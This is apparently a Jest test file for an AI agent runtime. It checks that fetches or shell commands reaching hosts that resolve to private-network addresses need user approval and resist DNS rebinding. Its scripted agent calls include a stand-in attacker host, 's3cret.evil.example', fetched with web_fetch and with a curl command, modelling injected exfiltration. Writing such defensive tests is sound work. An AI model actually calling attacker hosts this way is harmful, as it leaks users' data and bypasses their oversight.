import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
import { addRules, decideRequest, startLease, toolCallsOf } from '@rain/db'
import { z } from 'zod'
import { findWay } from '@rain/runtime/egress'
import { noOwnNetwork } from '@rain/runtime/egress/testing'
import { defineTool } from '../tools/tool.ts'
import { calls, says, scripted } from './testing/scripted-provider.ts'
import { openTurnLab, type TurnLab } from './testing/turn-lab.ts'

/** Names of sites that lead into the own network: the person is told where, and opens it to nothing else. */

let lab: TurnLab
let names: Record<string, string[]> = {}
let asked: string[] = []
let granted: (readonly string[])[] = []
let reached: { anywhere: readonly string[]; onTheInternet: readonly string[] }[] = []
let whileReading: () => unknown = () => undefined

const webFetch = defineTool<{ url: string }>({
  name: 'web_fetch',
  description: 'Pretends.',
  input: z.object({ url: z.string() }),
  repeatable: true,
  async run({ url }, { allowedHosts = [] }) {
    granted.push(allowedHosts)
    whileReading()
    return { isError: false, content: 'done', readFrom: new URL(url).host }
  },
})

const bash = defineTool<Record<string, unknown>>({
  name: 'bash',
  description: 'Pretends.',
  input: z.record(z.string(), z.unknown()),
  repeatable: false,
  async run(_, { allowedHosts = [], publicHosts = [] }) {
    reached.push({ anywhere: allowedHosts, onTheInternet: publicHosts })
    return { isError: false, content: 'done' }
  },
})

const rules = {
  ownServices: [],
  readOwnNetwork: noOwnNetwork,
  async resolve(host: string) {
    asked.push(host)
    return names[host] ?? []
  },
}

beforeAll(async () => {
  lab = await openTurnLab({ tools: [webFetch, bash], sandboxed: true, findWay: (target) => findWay(target, rules) })
})
beforeEach(async () => {
  names = { 'nas.example.com': ['192.168.1.5'], 'example.com': ['93.184.216.34'] }
  asked = []
  granted = []
  reached = []
  whileReading = () => undefined
  await lab.db.prisma.policyRule.deleteMany()
  await lab.newAgent()
})
afterAll(() => lab?.close())

const fetching = (...urls: string[]) => scripted(...urls.map((url) => calls(['web_fetch', { url }])), says('Done.'))

/** Long enough to be asked about. */
const long = (host: string, letter = 'a') => `https://${host}/${letter.repeat(80)}`

async function advance(provider: ReturnType<typeof fetching>, text = 'Read it.') {
  const turn = await lab.send(text)
  await lab.advance(turn.id, provider)
  return turn.id
}

test('a site on the internet is read without a question, and opens nothing at home', async () => {
  await advance(fetching('https://example.com/'))
  expect(granted).toEqual([[]])
})

test('a name that leads home is asked about, with its address; approved, it is opened', async () => {
  const provider = fetching('https://nas.example.com/files')
  const turn = await advance(provider)
  expect(granted).toEqual([])
  const { reasons } = await lab.event(turn, 'permission_request')
  expect(reasons).toContainEqual(
    expect.objectContaining({ code: 'leads_home', fragment: 'nas.example.com → 192.168.1.5' }),
  )
  await lab.decide(turn, 'approved')
  await lab.advance(turn, provider)
  expect(granted).toEqual([['nas.example.com']])
})

test('where it has come to lead elsewhere since it was approved, nothing is read', async () => {
  const provider = fetching('https://nas.example.com/')
  const turn = await advance(provider)
  await lab.decide(turn, 'approved')
  names['nas.example.com'] = ['192.168.1.1']
  await lab.advance(turn, provider)
  expect(granted).toEqual([])
  expect(await toolCallsOf(lab.db, turn)).toMatchObject([
    { status: 'failed', output: expect.stringContaining('leads elsewhere now') },
  ])
})

test('a host that a rule allows is not asked about', async () => {
  const allowed = [{ tool: 'web_fetch', host: 'nas.example.com', effect: 'allow' as const }]
  await addRules(lab.db, { userId: lab.userId, rules: allowed, origin: 'settings', createdBy: 'tok' })
  await advance(fetching('https://nas.example.com/'))
  expect(granted).toEqual([['nas.example.com']])
})

test('after the words of strangers no name is looked up unasked, and approving one opens nothing at home', async () => {
  names['s3cret.evil.example'] = ['192.168.1.1']
  const provider = fetching('https://example.com/', 'https://s3cret.evil.example/')
  const turn = await advance(provider)
  expect(asked).not.toContain('s3cret.evil.example')
  await lab.decide(turn, 'approved')
  await lab.advance(turn, provider)
  expect(asked).not.toContain('s3cret.evil.example')
  expect(granted).toEqual([[], []])
})

test('one that the person wrote is looked up then, too', async () => {
  const turn = await advance(
    fetching('https://example.com/', 'https://nas.example.com/'),
    'Read https://example.com/ and https://nas.example.com/ please.',
  )
  const { reasons } = await lab.event(turn, 'permission_request')
  expect(reasons).toContainEqual(expect.objectContaining({ code: 'leads_home' }))
})

test('changing something else of a call does not open what the person was not told of', async () => {
  names['s3cret.evil.example'] = ['192.168.1.1']
  const evil: [string, Record<string, unknown>] = ['web_fetch', { url: long('s3cret.evil.example') }]
  const provider = scripted(calls(['web_fetch', { url: 'https://example.com/' }]), calls(evil), says('Done.'))
  const { id } = await lab.send('Read it.')
  await lab.advance(id, provider)
  const { request_id: requestId } = await lab.event(id, 'permission_request')
  const given = { decision: 'approved', decidedBy: 'tok', decidedFrom: null, reason: null } as const
  const editedInput = { url: long('s3cret.evil.example'), offset: 10 }
  await decideRequest(lab.db, { requestId, userId: lab.userId, ...given, editedInput })
  await lab.advance(id, provider)
  expect(granted).toEqual([[]])
  const asked = (await lab.events(id)).filter((event) => event.type === 'permission_request')
  expect(asked.at(-1)?.reasons).toContainEqual(
    expect.objectContaining({ code: 'leads_home', fragment: 's3cret.evil.example → 192.168.1.1' }),
  )
})

test('leave for the rest of the turn is not leave to go home', async () => {
  names['elsewhere.example'] = ['93.184.216.34']
  const urls = ['a', 'b', 'c'].map((letter) => long('elsewhere.example', letter))
  const provider = fetching(...urls)
  const turn = await advance(provider, `Read ${urls.join(' and ')} please.`)
  await lab.decide(turn, 'approved')
  await lab.advance(turn, provider)
  const [request] = await lab.db.prisma.permissionRequest.findMany({ where: { turnId: turn, status: 'pending' } })
  const given = { decision: 'approved', decidedBy: 'tok', decidedFrom: null, reason: null } as const
  await decideRequest(lab.db, { requestId: request?.id ?? '', userId: lab.userId, ...given, forTurn: true })
  whileReading = () => (names['elsewhere.example'] = ['192.168.1.1'])
  await lab.advance(turn, provider)
  expect(granted).toEqual([[], []])
})

describe('a command', () => {
  const running = (command: string, hosts: string[] = []) =>
    scripted(calls(['bash', { command, hosts }]), says('Done.'))

  test('that names a host which leads home is asked about with its address, and reaches it once approved', async () => {
    const provider = running('curl https://nas.example.com/ https://example.com/')
    const turn = await advance(provider)
    const { reasons } = await lab.event(turn, 'permission_request')
    expect(reasons).toContainEqual(
      expect.objectContaining({ code: 'leads_home', fragment: 'nas.example.com → 192.168.1.5' }),
    )
    await lab.decide(turn, 'approved')
    await lab.advance(turn, provider)
    expect(reached).toEqual([{ anywhere: ['nas.example.com'], onTheInternet: ['example.com'] }])
  })

  test.each([
    ['before it starts, does not run', () => (names['example.com'] = ['192.168.1.1']), []],
    ['after that, does not get there', () => undefined, [{ anywhere: [], onTheInternet: ['example.com'] }]],
  ])('whose host comes to lead home %s', async (_, rebind, expected) => {
    const provider = running('python fetch.py', ['example.com'])
    const turn = await advance(provider)
    await lab.decide(turn, 'approved')
    rebind()
    await lab.advance(turn, provider)
    expect(reached).toEqual(expected)
  })

  test('a host that is an address or has no public name needs no word', async () => {
    const provider = running('curl http://192.168.1.5/ http://nas.lan/')
    const turn = await advance(provider)
    await lab.decide(turn, 'approved')
    await lab.advance(turn, provider)
    expect(reached).toEqual([{ anywhere: ['192.168.1.5', 'nas.lan'], onTheInternet: [] }])
  })

  test('a lease for every host does not stand for one that leads home', async () => {
    const rest = { devices: [], budget: null, createdBy: 'tok', red: false, until: new Date(Date.now() + 3_600_000) }
    await startLease(lab.db, { ...rest, ...lab.agent(), tools: ['bash'], hosts: ['*'] })
    const turn = await advance(running('curl https://nas.example.com/'))
    expect(await lab.event(turn, 'permission_request')).toMatchObject({ tool: 'bash' })
    expect(reached).toEqual([])
  })

  test('no name is looked up for one after the words of strangers', async () => {
    names['s3cret.evil.example'] = ['192.168.1.1']
    const provider = scripted(
      calls(['web_fetch', { url: 'https://example.com/' }]),
      calls(['bash', { command: 'curl https://s3cret.evil.example/' }]),
      says('Done.'),
    )
    const turn = await advance(provider)
    await lab.decide(turn, 'approved')
    await lab.advance(turn, provider)
    expect(asked).not.toContain('s3cret.evil.example')
    expect(reached).toEqual([{ anywhere: [], onTheInternet: ['s3cret.evil.example'] }])
  })
})
